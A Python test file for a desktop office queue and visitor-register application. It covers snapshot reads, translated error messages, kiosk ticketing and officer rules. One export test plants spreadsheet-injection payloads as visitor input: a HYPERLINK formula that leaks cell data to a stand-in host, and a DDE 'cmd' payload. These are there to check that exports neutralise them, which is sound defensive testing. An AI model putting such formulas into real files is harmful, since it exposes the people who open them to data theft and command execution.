"""The storage layer reads consistent snapshots and refuses bad requests with one clear
sentence in the person's language (not a raw SQLite or English detail)."""

from __future__ import annotations

import pytest

from tests.drivers import case_of_record, get_case
from ult_desktop.db import errors, queries
from ult_desktop.db.engine.sqlite import Database
from ult_desktop.db.house import office
from ult_desktop.db.open import open_database
from ult_desktop.db.queue.desk import call_next, recall, skip, transfer
from ult_desktop.db.queue.numbers import issue_ticket


def test_queue_snapshot_is_one_read(db, db_path):
    """A ticket issued by another station while the snapshot is being read must not be
    counted in ``last_event_id`` without being in the lists (the display would then
    skip its event and never show it)."""
    issue_ticket(db, service="A")
    other = open_database(db_path, station="other", mode="test", busy_budget_s=0.3)
    fired = []

    def meanwhile(sql: str) -> None:
        if "FROM counters" in sql and not fired:
            fired.append(sql)
            try:
                issue_ticket(other, service="A")
            except errors.DatabaseBusy:
                pass  # the snapshot holds its read lock: the writer must wait

    db.conn.set_trace_callback(meanwhile)
    try:
        snap = queries.queue_snapshot(db)
    finally:
        db.conn.set_trace_callback(None)
        other.close()
    assert fired
    issued_upto = db.query("SELECT COUNT(*) FROM events WHERE kind = 'issued' AND id <= ?",
                           (snap["last_event_id"],))[0][0]
    assert snap["waiting_total"] == issued_upto


def test_add_officer_taken_username_is_a_rule(db):
    """Two admins adding the same username: the second gets a sentence, not a raw
    ``sqlite3.IntegrityError`` (exit code 1, "internal error")."""
    with pytest.raises(errors.RuleViolation) as info:
        office.add_officer(db, username="Sari", name="Sari Lain", role="front_office",
                           pin="607194")
    assert "sari" in str(info.value)


def _one_read(db, fn):
    """Run *fn* and return the SELECTs it ran outside a transaction."""
    outside = []

    def trace(sql: str) -> None:
        if sql.lstrip().upper().startswith("SELECT") and not db.conn.in_transaction:
            outside.append(sql)

    db.conn.set_trace_callback(trace)
    try:
        result = fn()
    finally:
        db.conn.set_trace_callback(None)
    return result, outside


def test_cases_are_read_in_one_snapshot(db):
    """A case and its register record are changed together (answer_case); reading them
    in separate statements could show the new answer on one and the old on the other."""
    from ult_desktop.core.register import RecordInput
    from ult_desktop.db.visit import cases, register

    ticket = issue_ticket(db, service="A")
    rec = register.save_record(db, record=RecordInput(visitor_name="Budi", topic="ijazah"),
                               channel="walk_in", ticket_id=ticket.id)
    case = cases.open_case(db, record_id=rec.id)
    got, outside = _one_read(db, lambda: get_case(db, case.id))
    assert got.id == case.id and got.record.id == rec.id
    assert outside == []
    got, outside = _one_read(db, lambda: db.read(lambda c: cases.read_open_cases(c)))
    assert [c.id for c in got] == [case.id]
    assert outside == []
    got, outside = _one_read(db, lambda: case_of_record(db, rec.id))
    assert got is not None and got.id == case.id
    assert outside == []


@pytest.mark.parametrize("action", ["transfer", "recall", "target", "walk_in"])
def test_rule_messages_have_no_english_inside_indonesian(db, action):
    """These refusals said "Masukan tidak valid: transfer needs a destination."."""
    from ult_desktop.core.i18n import tr
    from ult_desktop.core.register import RecordInput
    from ult_desktop.db.visit import register

    ticket = issue_ticket(db, service="A")
    call_next(db, counter=1)
    skip(db, counter=1)
    with pytest.raises(errors.RuleViolation) as info:
        if action == "transfer":
            transfer(db, number=ticket.number)
        elif action == "recall":
            recall(db, number=ticket.number)
        elif action == "target":
            skip(db)
        else:
            register.save_record(db, record=RecordInput(visitor_name="Budi"), channel="walk_in")
    text = info.value.message("id")
    english = info.value.message("en")
    assert text != english
    assert not any(word in text for word in ("needs", "give", "ticket "))
    assert tr(info.value.key, "id", **info.value.params) == text


def test_cli_counter_action_usage_is_translated(db_path):
    from conftest import run_cli

    out = run_cli("--lang", "id", "skip", "--db", str(db_path))
    assert out.returncode == 2
    assert "give" not in out.stderr and out.stderr.strip()


def test_exports_do_not_turn_visitor_text_into_formulas(db, tmp_path):
    """A question typed as ``=HYPERLINK(...)`` (an online request is written by anyone)
    must stay text in the XLSX and CSV, never run as a spreadsheet formula."""
    import csv
    from datetime import date

    import openpyxl

    from ult_desktop.core.register import RecordInput
    from ult_desktop.db.visit import register
    from ult_desktop.reports.export import export_csv, export_xlsx

    evil = '=HYPERLINK("http://x.example/?"&A1,"klik")'
    rec = register.save_record(db, record=RecordInput(visitor_name="@SUM(1+1)", question=evil,
                                                      phone="+62 812-3456-789",
                                                      topic="+cmd|' /C calc'!A0"),
                               channel="phone", service="A")
    day = date.fromisoformat(rec.day)
    book = openpyxl.load_workbook(export_xlsx(db, day, day, tmp_path / "r.xlsx"))
    cells = [c for row in book.worksheets[1].iter_rows(min_row=2) for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    assert evil in [c.value for c in cells]
    written = export_csv(db, day, day, tmp_path / "r.csv")
    with open(written[1], encoding="utf-8-sig", newline="") as f:
        values = [v for row in list(csv.reader(f, delimiter=";"))[1:] for v in row]
    assert not [v for v in values if v[:1] in ("=", "@") or v.startswith("+cmd")]
    assert rec.data.phone.startswith("+62") and rec.data.phone in values  # stays as stored


class _LockAfterCommit:
    """After *db*'s next COMMIT, another connection takes the file's exclusive lock
    before the follow-up read (another station's long commit, a share hiccup)."""

    def __init__(self, db, path):
        import sqlite3

        self.db, self.other = db, sqlite3.connect(str(path), isolation_level=None)
        self.committed = self.locked = False

    def __call__(self, sql: str) -> None:
        if sql.strip().upper() == "COMMIT" and not self.committed:
            self.committed = True
        elif self.committed and not self.locked and sql.lstrip().upper().startswith("SELECT"):
            self.locked = True
            self.other.execute("BEGIN EXCLUSIVE")

    def __enter__(self):
        self.db.conn.set_trace_callback(self)
        return self

    def __exit__(self, *exc):
        self.db.conn.set_trace_callback(None)
        if self.other.in_transaction:
            self.other.execute("ROLLBACK")
        self.other.close()


def test_the_kiosk_prints_a_committed_ticket_when_the_follow_up_read_fails(db_path, tmp_path):
    """The ticket exists once committed: a failing read after the commit must not make
    the kiosk think nothing was issued (a retry would give a second ticket)."""
    from ult_desktop.app.print_service import print_and_record
    from ult_desktop.ui.kiosk.jobs import take_ticket

    db = open_database(db_path, station="kiosk", mode="kiosk", busy_budget_s=0.2)
    try:
        with _LockAfterCommit(db, db_path) as lock:
            issued = take_ticket(db, service="A")
        assert lock.locked
        assert issued.ticket.number == "A-001" and issued.ahead is None
        assert print_and_record(db, issued.ticket, f"virtual://{tmp_path}",
                                waiting_ahead=None).ok
        assert db.query("SELECT COUNT(*) FROM tickets")[0][0] == 1
    finally:
        db.close()


def test_cli_take_reports_the_committed_ticket_when_the_follow_up_read_fails(db_path,
                                                                             capsys,
                                                                             monkeypatch):
    from ult_desktop.cli import main

    lock = {}
    real_open = Database.open

    def open_and_lock(*args, **kwargs):
        db = real_open(*args, **{**kwargs, "busy_budget_s": 0.2})
        lock["lock"] = _LockAfterCommit(db, db_path).__enter__()
        return db

    monkeypatch.setattr(Database, "open", open_and_lock)
    try:
        code = main(["--lang", "id", "take", "--db", str(db_path), "--service", "A"])
    finally:
        lock["lock"].__exit__(None, None, None)
    out = capsys.readouterr()
    assert lock["lock"].locked
    assert code == 0, out.err
    assert "A-001" in out.out and "None" not in out.out


def test_cli_report_unknown_format_is_translated(db_path, tmp_path):
    from conftest import run_cli

    out = run_cli("--lang", "id", "report", "--db", str(db_path), "--from", "2025-01-01",
                  "--to", "2025-01-31", "--out", str(tmp_path / "laporan.txt"))
    assert out.returncode == 2
    assert "use one of" not in out.stderr and "pdf" in out.stderr


def test_transfer_to_an_unknown_or_inactive_officer_is_refused(db):
    """Such a ticket could never be called again (no counter has that officer)."""
    from ult_desktop.db.house import officers

    ticket = issue_ticket(db, service="A")
    with pytest.raises(errors.RuleViolation):
        transfer(db, number=ticket.number, to_officer=9999)
    officers.update_officer(db, username="dewi", active=False)
    dewi = db.query("SELECT id FROM officers WHERE username = 'dewi'")[0][0]
    with pytest.raises(errors.RuleViolation):
        transfer(db, number=ticket.number, to_officer=dewi)
    budi = db.query("SELECT id FROM officers WHERE username = 'budi'")[0][0]
    assert transfer(db, number=ticket.number, to_officer=budi).target_officer_id \
        == budi


@pytest.mark.parametrize("action", ["add", "reset"])
def test_a_bad_pin_is_refused_in_the_persons_language(db, action):
    with pytest.raises(errors.RuleViolation) as info:
        if action == "add":
            office.add_officer(db, username="baru", name="Baru", role="front_office", pin="12")
        else:
            office.reset_pin(db, username="sari", pin="12ab")
    assert "must be" not in info.value.message("id")
    assert "PIN" in info.value.message("id")
